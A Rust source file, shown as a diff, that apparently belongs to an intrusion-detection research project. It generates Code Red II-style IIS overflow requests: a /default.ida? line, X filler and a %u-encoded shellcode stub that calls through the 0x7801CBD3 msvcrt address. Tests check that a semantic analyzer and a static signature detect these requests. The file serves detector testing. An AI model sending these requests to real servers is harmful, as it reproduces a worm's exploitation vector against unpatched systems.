@@ -1,0 +1,121 @@
+//! A Code Red II exploit generator (paper Figure 5 and §5.3).
+//!
+//! Reproduces the *shape* of the worm's initial exploitation vector: a
+//! well-formed `GET /default.ida?` request, a long `X` overflow filler,
+//! and a `%uXXXX`-encoded binary region whose decoded instructions
+//! repeatedly reference the msvcrt.dll thunk window at `0x7801xxxx`
+//! (`%ucbd3%u7801` in the original capture).
+
+use crate::asm::{Asm, R};
+use rand::Rng;
+
+/// The msvcrt call-gate address the original worm used (0x7801CBD3).
+pub const CRII_GATE: u32 = 0x7801_cbd3;
+
+/// The decoded binary vector: sled + repeated transfers through the
+/// `0x7801xxxx` window.
+pub fn exploit_vector<G: Rng>(rng: &mut G) -> Vec<u8> {
+    let mut a = Asm::new();
+    // %u9090-style sled
+    for _ in 0..rng.gen_range(4..10) {
+        a.nop();
+    }
+    // push the gate address, stage it in a register, call through it —
+    // referencing the window at least twice as the capture shows.
+    a.push_imm32(CRII_GATE);
+    a.mov_imm(R::Esi, CRII_GATE + rng.gen_range(0..0x100));
+    a.raw(&[0xff, 0xd6]); // call esi
+    // the body then stages its heap fixups via the same window
+    a.mov_imm(R::Ebx, 0x0040_0000 + rng.gen_range(0..0x1000));
+    a.push_imm32(CRII_GATE - rng.gen_range(0..0x80));
+    a.raw(&[0xc3]); // ret into the pushed gate
+    a.finish()
+}
+
+/// Percent-u encode a byte buffer (pads to even length with 0x90).
+pub fn unicode_encode(data: &[u8]) -> String {
+    let mut s = String::with_capacity(data.len() * 3);
+    let mut it = data.chunks_exact(2);
+    for w in &mut it {
+        s.push_str(&format!("%u{:02x}{:02x}", w[1], w[0]));
+    }
+    if let [last] = it.remainder() {
+        s.push_str(&format!("%u90{last:02x}"));
+    }
+    s
+}
+
+/// Build the full Code Red II HTTP request.
+pub fn request<G: Rng>(rng: &mut G) -> Vec<u8> {
+    let mut req = b"GET /default.ida?".to_vec();
+    req.extend_from_slice(&vec![b'X'; 224]);
+    let vector = exploit_vector(rng);
+    req.extend_from_slice(unicode_encode(&vector).as_bytes());
+    req.extend_from_slice(b"%u00=a HTTP/1.0\r\n");
+    req.extend_from_slice(b"Content-type: text/xml\r\nHost: www\r\nAccept: */*\r\n");
+    req.extend_from_slice(b"Content-length: 3379\r\n\r\n");
+    req
+}
+
+/// The static signature a Snort-style ruleset would use for Code Red
+/// (content match on the request line).
+pub const STATIC_SIGNATURE: &[u8] = b"/default.ida?XXXXXXXX";
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+    use snids_extract::BinaryExtractor;
+    use snids_semantic::Analyzer;
+
+    #[test]
+    fn unicode_encoding_round_trips_through_extractor_decoding() {
+        let data = [0x90u8, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78];
+        let enc = unicode_encode(&data);
+        assert_eq!(enc, "%u9090%u6858%ucbd3%u7801");
+        let region = snids_extract::unicode::decode_region(enc.as_bytes(), 0).unwrap();
+        assert_eq!(region.data, data);
+    }
+
+    #[test]
+    fn odd_length_pads() {
+        let enc = unicode_encode(&[0xaa, 0xbb, 0xcc]);
+        assert_eq!(enc, "%ubbaa%u90cc");
+    }
+
+    #[test]
+    fn request_is_detected_end_to_end() {
+        for seed in 0..10u64 {
+            let mut rng = StdRng::seed_from_u64(seed);
+            let req = request(&mut rng);
+            let frames = BinaryExtractor::default().extract(&req);
+            assert_eq!(frames.len(), 1, "seed {seed}: {frames:?}");
+            let ms = Analyzer::default().analyze(&frames[0].data);
+            assert!(
+                ms.iter().any(|m| m.template == "code-red-ii"),
+                "seed {seed}: CRII template missed: {ms:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn vector_references_the_gate_window_twice() {
+        let mut rng = StdRng::seed_from_u64(3);
+        let v = exploit_vector(&mut rng);
+        let hits = v
+            .windows(2)
+            .filter(|w| w == &[0x01, 0x78]) // LE tail of 0x7801xxxx
+            .count();
+        assert!(hits >= 2, "only {hits} window references");
+    }
+
+    #[test]
+    fn static_signature_matches_the_request() {
+        let mut rng = StdRng::seed_from_u64(4);
+        let req = request(&mut rng);
+        assert!(req
+            .windows(STATIC_SIGNATURE.len())
+            .any(|w| w == STATIC_SIGNATURE));
+    }
+}
